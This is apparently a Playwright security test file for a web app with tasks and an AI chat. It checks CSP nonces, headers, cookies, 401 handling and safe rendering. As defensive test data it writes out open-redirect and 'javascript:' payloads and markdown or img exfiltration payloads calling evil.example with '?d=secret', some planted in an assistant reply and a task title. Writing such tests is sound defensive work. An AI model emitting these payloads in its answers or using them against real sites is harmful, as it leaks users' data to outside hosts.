import type { Page, Response } from "@playwright/test";
import { expect, memberTest, test } from "../fixtures";

const forEverybody = ["/", "/sign-in", "/sign-up", "/no/such/page"];
const forMembers = ["/tasks", "/chat", "/settings"];

for (const path of forEverybody) {
  test(`${path} allows scripts by nonce only`, async ({ page, surprises }) => {
    surprises.expect(/status of 404 .*\/no\/such\/page/);
    await expectStrictPolicy(page, path);
  });
}

for (const path of forMembers) {
  memberTest(`${path} allows scripts by nonce only`, async ({ page }) => {
    await expectStrictPolicy(page, path);
  });

  test(`${path} sends strangers to sign in, and them back afterwards`, async ({ page }) => {
    await page.goto(`${path}?from=mail`);
    await expect(page).toHaveURL(`/sign-in?next=${encodeURIComponent(`${path}?from=mail`)}`);
    await expect(page.getByRole("heading", { name: "Welcome back" })).toBeVisible();
  });
}

async function expectStrictPolicy(page: Page, path: string): Promise<void> {
  const nonces = new Set<string>();
  for (const visit of ["first", "second"]) {
    const response = await page.goto(path);
    expect(response, visit).not.toBeNull();
    nonces.add(nonceOf(response));
  }
  expect(nonces.size, "each view has a nonce of its own").toBe(2);

  // What the server wrote; scripts that trusted scripts load later need no nonce.
  const html = await (await page.request.get(path)).text();
  const scripts = html.match(/<script\b[^>]*>/g) ?? [];
  expect(scripts.length).toBeGreaterThan(0);
  expect(
    scripts.filter((tag) => !tag.includes(' nonce="')),
    "scripts without a nonce",
  ).toEqual([]);
  const markup = html.replaceAll(/<script[^>]*>.*?<\/script>/gs, "");
  expect(markup, "inline event handlers").not.toMatch(/<[^>]+\son[a-z]+=/i);
  const handlers = await page.locator("*").evaluateAll((elements) =>
    elements.flatMap((element) =>
      element
        .getAttributeNames()
        .filter((name) => name.startsWith("on"))
        .map((name) => `${element.tagName} ${name}`),
    ),
  );
  expect(handlers, "inline event handlers").toEqual([]);
}

function nonceOf(response: Response | null): string {
  const headers = response?.headers() ?? {};
  const policy = headers["content-security-policy"] ?? "";
  const directives = Object.fromEntries(
    policy.split(";").map((directive) => {
      const [name = "", ...values] = directive.trim().split(/\s+/);
      return [name, values];
    }),
  );
  const nonce = directives["script-src"]?.find((value) => value.startsWith("'nonce-")) ?? "";
  expect(nonce).toMatch(/^'nonce-[\w+/=-]{22,}'$/);
  expect(directives["script-src"]).not.toContain("'unsafe-inline'");
  expect(directives["script-src"]).not.toContain("'unsafe-eval'");
  expect(directives).toMatchObject({
    "default-src": ["'self'"],
    "connect-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'none'"],
    "form-action": ["'self'"],
    "frame-ancestors": ["'none'"],
  });
  expect(headers).toMatchObject({ "x-content-type-options": "nosniff", "x-frame-options": "DENY" });
  expect(headers["referrer-policy"]).toBeTruthy();
  expect(headers["x-dns-prefetch-control"], "a link is not looked up before it is followed").toBe("off");
  expect(headers["permissions-policy"]).toBe("camera=(), geolocation=(), microphone=(self), payment=()");
  expect(headers["x-powered-by"]).toBeUndefined();
  return nonce;
}

memberTest("the session cookie is out of reach of scripts and other sites", async ({ page, context }) => {
  await page.goto("/tasks");
  const session = (await context.cookies()).filter(({ name }) => name.includes("session"));
  expect(session.length).toBeGreaterThan(0);
  for (const cookie of session) expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Lax", path: "/" });
  expect(await page.evaluate(() => document.cookie)).not.toContain("session");
  const stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
  expect(stored, "no token is kept where scripts of another day could read it").not.toContain("eyJ");
});

test("the interface answers strangers with one and the same refusal", async ({ request }) => {
  const bad: Record<string, string>[] = [
    {},
    { authorization: "Bearer nonsense" },
    { authorization: "Basic cm9iaW46" },
  ];
  for (const headers of bad) {
    const answer = await request.get("/api/me/tasks", { headers });
    expect(answer.status()).toBe(401);
    expect(answer.headers()["www-authenticate"]).toBe("Bearer");
    expect(answer.headers()["content-type"]).toBe("application/problem+json");
    expect(await answer.json()).toMatchObject({ status: 401 });
  }
  expect((await request.get("/api/auth/token")).status()).toBe(401);
  expect((await request.post("/api/chatkit", { data: { type: "threads.list", params: {} } })).status()).toBe(
    401,
  );
  expect((await request.delete("/api/me/data")).status()).toBe(401);
});

memberTest("the cookie alone opens nothing at the backend", async ({ context }) => {
  const answer = await context.request.get("/api/me/tasks");
  expect(answer.status()).toBe(401);
});

memberTest("a database that is away signs nobody out", async ({ page, surprises }) => {
  surprises.expect(/status of 503/);
  await page.route("**/api/auth/token", (route) =>
    route.fulfill({ status: 503, headers: { "retry-after": "2" }, json: { status: 503, detail: "Away." } }),
  );
  const asked = page.waitForResponse("**/api/auth/token");
  await page.goto("/tasks");
  await asked;
  await page.unrouteAll();
  await page.goto("/settings");
  await expect(page).toHaveURL("/settings");
  await expect(page.getByLabel("Name")).toBeVisible();
});

memberTest("a sign-in address that points elsewhere leads to the tasks", async ({ page }) => {
  for (const next of [
    "https://example.com/",
    "//example.com",
    "/\\example.com",
    "/.//example.com",
    "/tasks/..//example.com",
    "/%2fexample.com",
    "javascript:alert(1)",
  ]) {
    await page.goto(`/sign-in?next=${encodeURIComponent(next)}`);
    await expect(page).toHaveURL("/tasks");
  }
});

memberTest(
  "an answer reaches no other site by itself, and its links say where they lead",
  async ({ page, chat }) => {
    const elsewhere: string[] = [];
    page.on("request", (request) => {
      if (request.url().includes("evil.example")) elsewhere.push(request.url());
    });
    const text = [
      "Done. ![a cat](https://evil.example/cat.png?d=secret) [your list](https://evil.example/?d=secret)",
      "[home](javascript:alert(1)) [tasks](/tasks) <img src=https://evil.example/raw.png>",
    ].join("\n\n");
    const item = { thread_id: "thr_1", created_at: new Date().toISOString() };
    const said = { ...item, id: "msg_1", type: "user_message", attachments: [], inference_options: {} };
    const answer = { ...item, id: "msg_2", type: "assistant_message" };
    const events = [
      {
        type: "thread.created",
        thread: { id: "thr_1", created_at: item.created_at, items: { data: [], has_more: false } },
      },
      {
        type: "thread.item.done",
        item: { ...said, content: [{ type: "input_text", text: "hello" }] },
      },
      {
        type: "thread.item.done",
        item: { ...answer, content: [{ type: "output_text", text, annotations: [] }] },
      },
    ];
    await page.route("**/api/chatkit", (route) =>
      route.request().postDataJSON().type === "threads.create"
        ? route.fulfill({
            contentType: "text/event-stream",
            body: events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(""),
          })
        : route.continue(),
    );
    // The server does not know this conversation; a live connection that opens late would have it read there.
    await page.route("**/api/me/events", () => undefined);
    await chat.open();
    await chat.begin("hello");
    await expect(chat.answer).toContainText("Done.");
    await expect(chat.answer).toContainText("a cat");
    await expect(chat.answer.getByRole("img", { name: "a cat" })).toHaveCount(0);
    const out = chat.answer.getByRole("link", { name: /^your list \(evil\.example\)/ });
    await expect(out).toHaveAttribute("rel", "noopener noreferrer nofollow");
    await expect(out).toHaveAttribute("target", "_blank");
    // An address that is written out is a link to what it says.
    const written = chat.answer.getByRole("link", { name: /^https:\/\/evil\.example\/raw\.png/ });
    await expect(written).toHaveAttribute("href", /^https:\/\/evil\.example\/raw\.png/);
    await expect(chat.answer.getByRole("link")).toHaveCount(3);
    await expect(chat.answer.getByRole("link", { name: "tasks" })).toHaveAttribute("href", "/tasks");
    expect(elsewhere).toEqual([]);
  },
);

memberTest(
  "a task's title is words and nothing else, wherever it is shown",
  async ({ page, chat, api, tasks }) => {
    const elsewhere: string[] = [];
    page.on("request", (request) => {
      if (request.url().includes("evil.example")) elsewhere.push(request.url());
    });
    const title = "![x](https://evil.example/x.png) **milk** <img src=https://evil.example/y.png>";
    await api.addTask(title);
    await chat.open();
    await expect(tasks.done(title)).toBeVisible();
    await chat.say("what is open?");
    await chat.say(`complete ${title}`);
    await expect(chat.log.locator("img")).toHaveCount(0);
    expect(elsewhere).toEqual([]);
  },
);
